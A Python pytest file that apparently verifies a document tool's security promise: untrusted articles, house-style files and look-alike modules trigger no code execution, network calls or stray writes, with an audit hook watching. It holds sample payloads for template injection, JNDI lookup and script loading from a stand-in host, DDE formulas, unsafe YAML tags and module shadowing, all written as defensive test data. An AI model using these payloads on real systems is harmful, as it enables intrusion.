"""What SECURITY.md promises: a stranger's files run nothing, reach nobody and write nowhere."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tempfile
from ast import literal_eval
from pathlib import Path

import pytest
from formats import word

ROOT = Path(__file__).parents[1]
# Python itself tells of what it does, in the processes of the parsers too.
WATCH = """
import os, sys
acts = ("socket.connect", "socket.get", "socket.send", "subprocess.")
acts += ("os.system", "os.exec", "os.posix_spawn", "os.fork")
told = os.open(os.environ["TOLD"], os.O_WRONLY | os.O_APPEND | os.O_CREAT)
def hook(event, given):
    writes = event == "open" and not isinstance(given[0], int) and (
        given[2] & (os.O_WRONLY | os.O_RDWR)
    )
    if writes or event.startswith(acts):
        os.write(told, (repr([event, *map(str, given)]) + "\\n").encode("utf-8", "replace"))
sys.addaudithook(hook)
"""
RUN = "__import__('os').mkdir('pwned')"
URL = "https://evil.invalid/x"
TEXT = (
    f"{{{{ cycler.__init__.__globals__.os.mkdir('pwned') }}}} ${{jndi:{URL}}} `mkdir pwned`\n\n"
    f"<script src={URL}>{RUN}</script> <img src={URL} onerror=alert(1)> {{% import {RUN} %}}\n\n"
    f"[a](javascript:alert(1)) ![b]({URL}) =cmd|'/c mkdir pwned'!A1 {RUN} @{RUN}\n"
)
ARTICLES = {
    "story.txt": TEXT.encode(),
    "story.md": f"---\ntitle: !!python/object/apply:os.mkdir [pwned]\n---\n\n{TEXT}".encode(),
    "story.html": f"<html><body><article><h1>The hed</h1>{TEXT * 9}</article>".encode(),
    "story.docx": word.word_file(word.paragraph(TEXT), links=(URL, "javascript:alert(1)")),
    "story.ipynb": json.dumps(
        {
            "nbformat": 4,
            "metadata": {},
            "cells": [
                {"cell_type": "markdown", "source": TEXT},
                {"cell_type": "code", "source": RUN, "outputs": []},
            ],
        }
    ).encode(),
}
HOUSE = f'[instead]\n"prior to" = "{RUN} {{{{ 7 * 7 }}}} {{0.__class__}}"\n'


COMMANDS = """
import sys
import tempfile
from kit.cli import main
from kit.exporters import names
everything = ",".join(names())
for article in sys.argv[1:]:
    for command in ("check", "verify", "replay", "house", f"export -o out --to {everything}"):
        name, *options = command.split()
        try:
            main([name, article, *options])
        except SystemExit as ended:
            print(article, name, ended.code, file=sys.stderr)
"""


@pytest.fixture
def strangers(tmp_path: Path) -> Path:
    """Return a folder that came from a stranger: articles, house style, modules, templates."""
    folder = tmp_path / "strangers"
    folder.mkdir()
    for name, data in ARTICLES.items():
        (folder / name).write_bytes(data)
    (folder / "house.toml").write_text(HOUSE, "utf-8")
    for name in ("json", "yaml", "regex", "lxml", "kit", "sitecustomize"):
        (folder / f"{name}.py").write_text(RUN, "utf-8")
    for name in ("article.html.j2", "story.html.j2"):
        (folder / name).write_text(TEXT, "utf-8")
    return folder


def test_a_strangers_folder(strangers: Path, tmp_path: Path) -> None:
    """Nothing of it is run, nobody is called, nothing is written but what was asked for."""
    watch, told = tmp_path / "watch", tmp_path / "told"
    watch.mkdir()
    (watch / "sitecustomize.py").write_text(WATCH, "utf-8")
    done = subprocess.run(
        [sys.executable, "-P", "-c", COMMANDS, *ARTICLES],
        cwd=strangers,
        env={**os.environ, "PYTHONPATH": str(watch), "TOLD": str(told)},
        capture_output=True,
        text=True,
        check=True,
    )
    ended = [line.split() for line in done.stderr.splitlines() if line.startswith("story.")]
    assert len(ended) == 5 * len(ARTICLES)
    assert {status for *_, status in ended} == {"0", "1"}
    acts = [literal_eval(line) for line in told.read_text("utf-8").splitlines()]
    assert any(event == "subprocess.Popen" for event, *_ in acts), "nobody was watching"
    assert [act for act in acts if not _is_meant(*act)] == []
    assert not (strangers / "pwned").exists()


def _is_meant(event: str, what: str, *more: str) -> bool:
    """Tell whether an act is the parsers' own process, or the writing of a page asked for."""
    if event == "open":
        return _is_tried(Path(what)) or "__pycache__" in what or Path(what).parent.name == "out"
    return event in ("subprocess.Popen", "os.posix_spawn") and "runner.py" in " ".join(more)


def _is_tried(file: Path) -> bool:
    """Tell whether Python tries here, by a name of its own, where it may write: for a PDF."""
    own = re.fullmatch(r"[a-z0-9_]{8}", file.name)
    return bool(own) and file.parent == Path(tempfile.gettempdir())


def test_what_is_promised_is_held_by_tests() -> None:
    """Every test that SECURITY.md names is there."""
    text = (ROOT / "SECURITY.md").read_text("utf-8")
    named = re.findall(r"`(tests/[\w/.]+)`", text)
    assert len(named) > 5
    for path in named:
        assert (ROOT / path).exists(), path
